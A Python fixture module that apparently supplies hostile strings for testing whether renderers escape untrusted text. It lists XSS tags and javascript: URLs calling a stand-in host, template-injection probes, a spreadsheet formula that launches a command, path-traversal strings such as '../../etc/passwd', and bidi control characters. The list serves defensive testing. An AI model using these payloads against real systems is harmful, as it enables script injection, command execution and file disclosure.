"""Texts that attack whoever shows them: HTML, Markdown, CSS, SVG, cells, templates, paths, bytes.

`window.pwned` is what a script would set; `evil.example` is where a request would go.
"""

_RUN = "window.pwned=1"
_HOST = "https://evil.example/x"

TAGS = [
    f"<script>{_RUN}</script>", f"<SCRIPT SRC={_HOST}.js></SCRIPT>", f"<img src=x onerror={_RUN}>",
    f"<img/src='x'/onerror={_RUN}>", f"<img src={_HOST}.png>", f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>", f"<svg><animate onbegin={_RUN} attributeName=x>",
    f"<svg><foreignObject><iframe src={_HOST}></foreignObject>", f"<body onload={_RUN}>",
    f"<iframe src='javascript:{_RUN}'></iframe>", f"<iframe srcdoc='<script>{_RUN}</script>'>",
    f"<object data='{_HOST}'></object>", f"<embed src='{_HOST}'>", f"<link rel=stylesheet href={_HOST}.css>",
    f"<meta http-equiv=refresh content='0;url={_HOST}'>", f"<base href='{_HOST}/'>",
    f"<form action='{_HOST}'><input name=a autofocus onfocus={_RUN}></form>",
    f"<button formaction='javascript:{_RUN}'>x</button>", f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>", f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>", f"<input onfocus={_RUN} autofocus>", f"<select autofocus onfocus={_RUN}>",
    f"<textarea onfocus={_RUN} autofocus>", f"<keygen autofocus onfocus={_RUN}>",
    f"<a href='javascript:{_RUN}'>x</a>", f"<a href=' java\tscript:{_RUN}'>x</a>",
    f"<a href='&#106;avascript:{_RUN}'>x</a>", f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    f"<a href='vbscript:{_RUN}'>x</a>", f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>", f"<template><script>{_RUN}</script></template>",
    f"<style>@import '{_HOST}.css';</style>", "<style>*{display:none!important}</style>",
    "<style>main{position:fixed;left:-9999px}</style>", f"<xss style='behavior:url({_HOST})'>",
    f"<div style='background:url({_HOST})'>x</div>", "<div style='position:fixed;inset:0;background:red'>x</div>",
    f"<x onclick={_RUN} tabindex=1 autofocus onfocus={_RUN}>", f"<portal src={_HOST}>", f"<frameset onload={_RUN}>",
    f"<applet code={_HOST}>", f"<isindex action=javascript:{_RUN} type=image>", f"<bgsound src={_HOST}>",
    f"<layer src={_HOST}>", f"<img srcset='{_HOST} 1x'>", f"<picture><source srcset='{_HOST}'></picture>",
    f"<svg><use href='{_HOST}#x'/></svg>", f"<svg><image href='{_HOST}.png'/></svg>",
    f"<image src={_HOST}.png>", f"<table background='{_HOST}'>", f"<script type=module>import '{_HOST}'</script>",
]  # fmt: skip
BREAKERS = [
    "</td></tr></table><h1>", "</table></div></main>", "</main></body></html>", "<!--", "-->", "<!-- --!>",
    "<![CDATA[", "]]>", "</title><script>", "</style>", "</textarea>", "</script>", "<plaintext>", "<xmp>",
    "<listing>", "<noembed>", "<table><tr><td>", "</p></div></section>", "<b><i><u>", "</b></i></u>", "<h1>x</h1>",
    "<h2 id=waiting>", "<p id=stale>", "<details>", "<ul><li>", "<hr>" * 5, "<br>" * 5, "&lt;script&gt;", "&amp;amp;",
    "&#60;script&#62;", "&nbsp;" * 5, "&#x202e;abc", "&", "&&&", "<", ">", "<>", "\"", "'", "\"'><", "`", "\" onmouseover=\"" + _RUN,
    "' onmouseover='" + _RUN, "\\", "\\\"", "/>", "<p", "<a href=", "x" * 300,
]  # fmt: skip
MARKDOWN = [
    f"[x](javascript:{_RUN})", f"[x]({_HOST})", f"![x]({_HOST}.png)", f"![x](x\" onerror=\"{_RUN})", f"<{_HOST}>",
    "# heading", "## heading {#stale}", "* list", "1. list", "> quote", "---", "```\ncode", "`code`", "**bold**", "_em_",
    "| a | b |\n|---|---|", f"[x]: {_HOST}", "$\\href{javascript:1}{x}$", "$$\\int$$", "~~x~~", "- [ ] task", "\\(x\\)",
    "{{ 7*7 }}", "{% raw %}", "{{ ''.__class__.__mro__ }}", "{% import os %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{0.__class__}", "{stage}", "%s%n", "{count:>9999}",
]  # fmt: skip
CELLS = ["=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", f"=HYPERLINK(\"{_HOST}\")", "\t=1+1", "\r=1+1",
         "=IMPORTXML(\"x\")", "；=1+1", "＝1+1", "\"=1+1"]  # fmt: skip
LETTERS = [
    "\u202egnp.exe", "\u2066abc\u2069", "\u200bzero\u200bwidth", "\ufeffbom", "\x1b[31mred", "\x07bell", "\x08back", "\x7fdel",
    "a\nb", "a\r\nb", "a\tb", "\u2028line", "\u0085next", "e\u0301" * 20, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘", "👨‍👩‍👧‍👦", "𝕳𝖎", "ﷺ", "１２３", "ＡＢＣ",
    "مرحبا", "שלום", "客户<名称>", "「引号」", "%00", "%3Cscript%3E", "../../etc/passwd", "..\\..\\x", "CON", "file:///etc/passwd",
    "a/b", "a;b", "a&b=c", "?x=1#y", "null", "NaN", "undefined", "None", "true", "-0", "1e999", "0x1F",
]  # fmt: skip
PAYLOADS = [*TAGS, *BREAKERS, *MARKDOWN, *CELLS, *LETTERS]
